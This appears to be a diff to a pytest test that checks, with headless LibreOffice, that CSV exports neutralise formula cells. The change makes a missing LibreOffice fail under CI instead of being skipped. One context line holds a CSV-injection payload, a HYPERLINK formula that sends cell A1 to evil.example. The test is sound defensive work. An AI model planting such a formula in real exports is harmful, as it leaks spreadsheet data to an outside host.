@@ -1,4 +1,5 @@
-"""Open exported CSVs the way a coordinator would: LibreOffice, headless. Skipped without soffice.
+"""Open exported CSVs the way a coordinator would: LibreOffice, headless. Skipped without soffice
+(failing under CI=true: tests/parts.py).
 
 LibreOffice evaluates a CSV cell like `=1+2` on import (the control row proves it here), so this
 is a real check that neutralised cells arrive as text and that no formula reaches the sheet.
@@ -16,10 +17,18 @@ from pathlib import Path
 import pytest
 
 from kit.export import CSV_PRESETS
+from tests.parts import require_part
 from tests.unit.export_samples import export_bytes, sample_records
 
 SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
-pytestmark = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
+
+
+@pytest.fixture(autouse=True)
+def _libreoffice() -> None:
+    if SOFFICE is None:
+        require_part("LibreOffice", "soffice not installed (apt-get install libreoffice-calc-nogui)")
+
+
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 # Comma separator, double quote, UTF-8 (76), start at row 1: what the Text Import dialog
 # offers for these files.
